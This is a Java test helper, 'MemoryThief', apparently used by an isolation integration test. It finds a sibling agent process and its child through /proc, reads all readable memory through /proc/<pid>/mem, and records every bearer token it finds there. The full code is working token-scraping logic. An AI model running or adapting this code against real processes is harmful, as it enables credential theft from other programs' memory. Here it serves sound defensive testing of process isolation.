package dev.cascade.agent;

import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;

/**
 * A hostile simulator, for {@link HostileSiblingIT}: finds the sibling sim's agent (a sim agent
 * whose command line names {@code args[0]} and which is not its own parent) and that agent's
 * simulator, reads each one's {@code /proc/<pid>/maps} and, through {@code /proc/<pid>/mem}, every
 * readable region, and writes every {@code Bearer <token>} it finds there to the report {@code
 * args[1]}, one line each:
 *
 * <pre>
 * agent 1234
 * agent maps unreadable: ...        (or: agent read 51234816 bytes)
 * agent found token-abc
 * simulator 1240
 * simulator found canary-xyz
 * </pre>
 *
 * It runs with the JDK alone, from a folder of its own class file.
 */
final class MemoryThief {

  private static final byte[] BEARER = "Bearer ".getBytes(StandardCharsets.US_ASCII);
  private static final int CHUNK = 1 << 20;
  private static final int OVERLAP = 256;
  private static final long LARGEST_REGION = 1L << 30;

  private MemoryThief() {}

  public static void main(String[] args) throws IOException {
    String marker = args[0];
    Path report = Path.of(args[1]);
    long parent = ProcessHandle.current().parent().map(ProcessHandle::pid).orElse(-1L);
    List<String> lines = new ArrayList<>();
    for (long agent : pids()) {
      String cmdline = read(agent, "cmdline").replace('\0', ' ');
      if (agent == parent
          || !cmdline.contains("dev.cascade.agent.SimAgentMain")
          || !cmdline.contains(marker)) {
        continue;
      }
      steal("agent", agent, lines);
      for (long child : pids()) {
        if (parentOf(child) == agent) {
          steal("simulator", child, lines);
        }
      }
    }
    Path written = report.resolveSibling(report.getFileName() + ".tmp");
    Files.write(written, lines);
    Files.move(written, report, StandardCopyOption.ATOMIC_MOVE);
  }

  private static void steal(String role, long pid, List<String> lines) {
    lines.add(role + " " + pid);
    List<String> regions;
    try {
      regions = Files.readAllLines(Path.of("/proc", Long.toString(pid), "maps"));
    } catch (IOException e) {
      lines.add(role + " maps unreadable: " + e);
      return;
    }
    Set<String> found = new LinkedHashSet<>();
    long bytes = 0;
    try (RandomAccessFile memory = new RandomAccessFile("/proc/" + pid + "/mem", "r")) {
      byte[] buffer = new byte[CHUNK + OVERLAP];
      for (String region : regions) {
        String[] fields = region.trim().split("\\s+");
        String[] range = fields[0].split("-");
        long start = Long.parseUnsignedLong(range[0], 16);
        long end = Long.parseUnsignedLong(range[1], 16);
        String name = fields.length > 5 ? fields[5] : "";
        if (fields[1].charAt(0) != 'r'
            || name.startsWith("[vvar")
            || name.equals("[vsyscall]")
            || start < 0
            || end - start > LARGEST_REGION) {
          continue;
        }
        for (long at = start; at < end; at += CHUNK) {
          int length = (int) Math.min(CHUNK + OVERLAP, end - at);
          int read;
          try {
            memory.seek(at);
            read = memory.read(buffer, 0, length);
          } catch (IOException unreadablePage) {
            break;
          }
          if (read <= 0) {
            break;
          }
          bytes += read;
          search(buffer, read, found);
        }
      }
    } catch (IOException e) {
      lines.add(role + " mem unreadable: " + e);
      return;
    }
    lines.add(role + " read " + bytes + " bytes");
    found.forEach(token -> lines.add(role + " found " + token));
  }

  /** Every {@code Bearer <token>} in the buffer: its token, 8 to 100 URL-safe characters. */
  private static void search(byte[] buffer, int length, Set<String> found) {
    outer:
    for (int i = 0; i + BEARER.length < length; i++) {
      for (int j = 0; j < BEARER.length; j++) {
        if (buffer[i + j] != BEARER[j]) {
          continue outer;
        }
      }
      int start = i + BEARER.length;
      int end = start;
      while (end < length && end - start < 100 && isTokenByte(buffer[end])) {
        end++;
      }
      if (end - start >= 8) {
        found.add(new String(buffer, start, end - start, StandardCharsets.US_ASCII));
      }
    }
  }

  private static boolean isTokenByte(byte b) {
    return (b >= 'a' && b <= 'z')
        || (b >= 'A' && b <= 'Z')
        || (b >= '0' && b <= '9')
        || b == '-'
        || b == '_';
  }

  private static List<Long> pids() throws IOException {
    try (Stream<Path> entries = Files.list(Path.of("/proc"))) {
      return entries
          .map(entry -> entry.getFileName().toString())
          .filter(name -> name.chars().allMatch(Character::isDigit))
          .map(Long::parseLong)
          .toList();
    }
  }

  private static long parentOf(long pid) {
    String stat = read(pid, "stat");
    int closing = stat.lastIndexOf(')');
    if (closing < 0) {
      return -1;
    }
    // pid (comm) state ppid ...
    String[] fields = stat.substring(closing + 2).split(" ");
    return fields.length > 1 ? Long.parseLong(fields[1]) : -1;
  }

  private static String read(long pid, String file) {
    try {
      return new String(
          Files.readAllBytes(Path.of("/proc", Long.toString(pid), file)), StandardCharsets.UTF_8);
    } catch (IOException e) {
      return ""; // gone meanwhile
    }
  }
}
